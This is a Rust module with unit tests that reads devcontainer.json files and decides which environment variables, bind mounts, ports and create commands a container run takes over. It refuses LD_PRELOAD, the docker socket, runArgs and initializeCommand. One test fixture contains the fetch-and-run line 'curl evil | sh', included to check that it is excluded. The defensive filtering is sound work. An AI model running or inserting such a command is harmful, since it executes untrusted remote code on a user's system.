//! `devcontainer.json`: what of it an image, a run and the time between them take over, and what not.

use std::collections::BTreeMap;
use std::path::Path;

use serde_json::{Map, Value};

use crate::core::admit::mount::MountRule;
use crate::core::admit::publish::Publish;
use crate::core::admit::variable;
use crate::core::plan::mount::Access;
use crate::core::sync::json::lenient;
use crate::core::text::path::without_dots;

/// What a `devcontainer.json` says.
#[derive(Clone, Debug, Default, PartialEq)]
pub struct DevcontainerFile {
    pub image: Option<String>,
    pub dockerfile: Option<String>,
    /// As the Dockerfile, from the directory of the file.
    pub context: Option<String>,
    pub target: Option<String>,
    pub args: BTreeMap<String, String>,
    pub has_features: bool,
    /// Literals for the environment; names that are inherited.
    pub set: Vec<(String, String)>,
    pub pass: Vec<String>,
    pub mounts: Vec<MountRule>,
    pub publish: Vec<Publish>,
    /// Lines for `sh`, each with its key, once there is a new container.
    pub after: Vec<(String, String)>,
    /// What is not taken over, in words.
    pub left_out: Vec<String>,
}

/// Keys that say nothing about a run of a tool.
const NO_MATTER: [&str; 21] = [
    "$schema",
    "name",
    "build",
    "image",
    "dockerFile",
    "context",
    "features",
    "overrideFeatureInstallOrder",
    "containerEnv",
    "remoteEnv",
    "mounts",
    "forwardPorts",
    "appPort",
    "portsAttributes",
    "otherPortsAttributes",
    "customizations",
    "extensions",
    "settings",
    "hostRequirements",
    "waitFor",
    "init",
];
/// Keys whose meaning a run has by other ways: who one is inside, and where the project is.
const OURS: [&str; 9] = [
    "remoteUser",
    "containerUser",
    "updateRemoteUserUID",
    "workspaceFolder",
    "workspaceMount",
    "shutdownAction",
    "overrideCommand",
    "userEnvProbe",
    "secrets",
];
/// Commands that run once a container is new, in their order.
const AFTER: [&str; 3] = ["onCreateCommand", "updateContentCommand", "postCreateCommand"];

/// Reads a file whose project is at `root`.
///
/// # Errors
/// Where it is no object of JSON, or no image follows from it.
pub fn read(text: &str, root: &Path) -> Result<DevcontainerFile, String> {
    let (plain, _) = lenient::plain(text);
    let value: Value = serde_json::from_str(&plain).map_err(|error| error.to_string())?;
    let top = value.as_object().ok_or("it is no object")?;
    if top.contains_key("dockerComposeFile") {
        return Err("it is made of several containers (`dockerComposeFile`), and a run is one".into());
    }
    let mut file = DevcontainerFile {
        has_features: top.get("features").and_then(Value::as_object).is_some_and(|map| !map.is_empty()),
        ..DevcontainerFile::default()
    };
    let of = |map: &Map<String, Value>, key: &str| map.get(key).and_then(Value::as_str).map(str::to_owned);
    file.image = of(top, "image");
    file.dockerfile = of(top, "dockerFile");
    file.context = of(top, "context");
    if let Some(build) = top.get("build").and_then(Value::as_object) {
        file.dockerfile = of(build, "dockerfile").or_else(|| of(build, "dockerFile")).or(file.dockerfile);
        file.context = of(build, "context").or(file.context);
        file.target = of(build, "target");
        let args = build.get("args").and_then(Value::as_object);
        let text = |value: &Value| value.as_str().map_or_else(|| value.to_string(), str::to_owned);
        file.args = args.into_iter().flatten().map(|(name, value)| (name.clone(), text(value))).collect();
        if build.contains_key("options") {
            file.left_out.push("build.options".into());
        }
    }
    if file.image.is_none() && file.dockerfile.is_none() {
        return Err("it names neither an image nor a Dockerfile".into());
    }
    let host = HostSide { root };
    for key in ["containerEnv", "remoteEnv"] {
        for (name, value) in top.get(key).and_then(Value::as_object).into_iter().flatten() {
            host.variable(key, name, value, &mut file);
        }
    }
    for mount in list(top.get("mounts")) {
        host.mount(mount, &mut file);
    }
    for port in list(top.get("forwardPorts")).into_iter().chain(list(top.get("appPort"))) {
        let word = port.as_str().map_or_else(|| port.to_string(), str::to_owned);
        match word.parse() {
            Ok(port) => file.publish.push(port),
            // A port of another container, by its name.
            Err(_) => file.left_out.push(format!("the port {word}")),
        }
    }
    for key in AFTER {
        commands(key, top.get(key), &mut file.after);
    }
    let known = |key: &str| NO_MATTER.contains(&key) || OURS.contains(&key) || AFTER.contains(&key);
    file.left_out.extend(top.keys().filter(|key| !known(key)).cloned());
    Ok(file)
}

/// Returns the things of a list, or the one thing that is none.
fn list(value: Option<&Value>) -> Vec<&Value> {
    match value {
        None | Some(Value::Null) => Vec::new(),
        Some(Value::Array(list)) => list.iter().collect(),
        Some(one) => vec![one],
    }
}

/// Takes a command: a line, a list of words, or several of these by name.
fn commands(key: &str, value: Option<&Value>, after: &mut Vec<(String, String)>) {
    let line = match value {
        Some(Value::String(line)) => Some(line.clone()),
        Some(Value::Array(words)) => Some(shell_words::join(words.iter().filter_map(Value::as_str))),
        Some(Value::Object(named)) => {
            for (name, value) in named.iter().filter(|(_, value)| !value.is_object()) {
                commands(&format!("{key} {name}"), Some(value), after);
            }
            None
        }
        _ => None,
    };
    after.extend(line.filter(|line| !line.trim().is_empty()).map(|line| (key.to_owned(), line)));
}

/// What the file says of the host's side.
struct HostSide<'a> {
    root: &'a Path,
}

impl HostSide<'_> {
    /// Takes a variable. What is inherited under its own name stays a name, so that its value is in no file and no vector.
    fn variable(&self, key: &str, name: &str, value: &Value, file: &mut DevcontainerFile) {
        // `null` takes a variable away that nothing here sets.
        if value.is_null() {
            return;
        }
        let text = value.as_str().map_or_else(|| value.to_string(), str::to_owned);
        let inherited = text.strip_prefix("${localEnv:").and_then(|rest| rest.strip_suffix('}'));
        if variable::refusal(name).is_some() || ["PATH", "HOME", "LD_PRELOAD", "LD_LIBRARY_PATH"].contains(&name) {
            file.left_out.push(format!("{key}.{name}"));
        } else if inherited == Some(name) {
            file.pass.push(name.to_owned());
        } else if let Some(text) = self.resolved(&text) {
            file.set.push((name.to_owned(), text));
        } else {
            file.left_out.push(format!("{key}.{name}"));
        }
    }

    /// Takes a directory or file of the host's. Volumes are no files of anybody, and a socket is not let in.
    fn mount(&self, mount: &Value, file: &mut DevcontainerFile) {
        let options: Vec<(String, String)> = match mount {
            Value::String(text) => text
                .split(',')
                .map(|option| {
                    option.split_once('=').map_or((option.to_owned(), String::new()), |(name, value)| (name.into(), value.into()))
                })
                .collect(),
            Value::Object(map) => map.iter().map(|(name, value)| (name.clone(), value.as_str().unwrap_or_default().to_owned())).collect(),
            _ => Vec::new(),
        };
        let option = |names: &[&str]| options.iter().find(|(name, _)| names.contains(&name.as_str())).map(|(_, value)| value.as_str());
        let (source, target) = (option(&["source", "src"]), option(&["target", "destination", "dst"]));
        let is_read_only = option(&["readonly", "ro"]).is_some_and(|value| !matches!(value, "false" | "0"));
        let is_bind = option(&["type"]) == Some("bind");
        let paths = source.zip(target).and_then(|(source, target)| Some((self.resolved_path(source)?, target)));
        match paths.filter(|(source, target)| is_bind && target.starts_with('/') && !target.contains('$') && !is_socket(source)) {
            Some((path, at)) => {
                let access = if is_read_only { Access::ReadOnly } else { Access::ReadWrite };
                file.mounts.push(MountRule { path, access, at: Some(at.to_owned()) });
            }
            None => file.left_out.push(format!("the mount at {}", target.unwrap_or("no place"))),
        }
    }

    /// Returns the path of a mount's source, unless that is in the project, which is there anyway.
    fn resolved_path(&self, source: &str) -> Option<String> {
        let home = ["${localEnv:HOME}${localEnv:USERPROFILE}", "${localEnv:HOME}", "${env:HOME}"];
        let below = home.iter().find_map(|home| source.strip_prefix(home));
        let path = below.map_or_else(|| self.resolved(source), |below| Some(format!("~{below}")))?;
        let is_fit = path.starts_with('/') || path == "~" || path.starts_with("~/");
        (is_fit && !path.contains('$') && !without_dots(Path::new(&path)).starts_with(self.root)).then_some(path)
    }

    /// Returns a text in which the host's side of the project is what it is; `None` where it depends on more.
    fn resolved(&self, text: &str) -> Option<String> {
        let name = self.root.file_name().unwrap_or_default().to_string_lossy();
        let text = text.replace("${localWorkspaceFolderBasename}", &name).replace("${localWorkspaceFolder}", &self.root.to_string_lossy());
        (!text.contains("${")).then_some(text)
    }
}

fn is_socket(path: &str) -> bool {
    Path::new(path).extension().is_some_and(|extension| extension == "sock")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn file(text: &str) -> DevcontainerFile {
        read(text, Path::new("/home/u/proj")).unwrap()
    }

    // NE-08
    #[test]
    fn everything_that_a_run_can_have_is_taken_over() {
        let text = r#"// For the team.
        { "name": "x", "image": "python:3.12",
          "containerEnv": { "A": "1", "WHERE": "${localWorkspaceFolder}/x", "TOKEN": "${localEnv:TOKEN}", "B": 2 },
          "remoteEnv": { "PATH": "${containerEnv:PATH}:/x", "OTHER": "${localEnv:TOKEN}", "GONE": null },
          "mounts": [
            "source=${localEnv:HOME}/.aws,target=/home/ai/.aws,type=bind,readonly",
            { "type": "bind", "source": "/srv/data", "target": "/data" },
            "source=/var/run/docker.sock,target=/var/run/docker.sock,type=bind",
            "source=vol,target=/vol,type=volume",
            "source=${localWorkspaceFolder}/.cache,target=/c,type=bind",
          ],
          "forwardPorts": [3000, "8080:80", "db:5432"], "appPort": 9000,
          "onCreateCommand": ["npm", "install", "a b"], "postCreateCommand": { "one": "make deps", "two": ["x"] },
          "runArgs": ["--privileged"], "initializeCommand": "curl evil | sh", "remoteUser": "vscode", /* no more */ }"#;
        let file = file(text);
        assert_eq!(file.image.as_deref(), Some("python:3.12"));
        let set = [("A", "1"), ("WHERE", "/home/u/proj/x"), ("B", "2")].map(|(name, value)| (name.to_owned(), value.to_owned()));
        assert_eq!((file.set, file.pass), (set.to_vec(), vec!["TOKEN".to_owned()]));
        let mount = |path: &str, access, at: &str| MountRule { path: path.into(), access, at: Some(at.into()) };
        assert_eq!(file.mounts, [mount("~/.aws", Access::ReadOnly, "/home/ai/.aws"), mount("/srv/data", Access::ReadWrite, "/data")]);
        assert_eq!(
            file.publish.iter().map(ToString::to_string).collect::<Vec<_>>(),
            ["127.0.0.1:3000:3000", "127.0.0.1:8080:80", "127.0.0.1:9000:9000"]
        );
        let after = [("onCreateCommand", "npm install 'a b'"), ("postCreateCommand one", "make deps"), ("postCreateCommand two", "x")];
        assert_eq!(file.after, after.map(|(key, line)| (key.to_owned(), line.to_owned())));
        let left_out = [
            "remoteEnv.PATH",
            "remoteEnv.OTHER",
            "the mount at /var/run/docker.sock",
            "the mount at /vol",
            "the mount at /c",
            "the port db:5432",
            "runArgs",
            "initializeCommand",
        ];
        assert_eq!(file.left_out, left_out);
    }

    #[test]
    fn a_build_is_read_in_both_spellings() {
        let build =
            file(r#"{"build": {"dockerfile": "Dockerfile", "context": "..", "args": {"V": 3}, "target": "dev"}, "features": {"a": {}}}"#);
        assert!(build.dockerfile.as_deref() == Some("Dockerfile") && build.context.as_deref() == Some("..") && build.has_features);
        assert!(build.target.as_deref() == Some("dev") && build.args["V"] == "3");
        let old = file(r#"{"dockerFile": "D", "context": "."}"#);
        assert!(old.dockerfile.as_deref() == Some("D") && !old.has_features && old.left_out.is_empty());
    }

    #[test]
    fn what_is_none_is_refused_with_its_reason() {
        for (text, why) in [
            ("[]", "no object"),
            ("{", "EOF"),
            ("{}", "neither an image nor a Dockerfile"),
            (r#"{"dockerComposeFile": "x"}"#, "several containers"),
        ] {
            assert!(read(text, Path::new("/p")).unwrap_err().contains(why), "{text}");
        }
        let deep = "[".repeat(10_000);
        assert!(read(&deep, Path::new("/p")).is_err());
    }
}
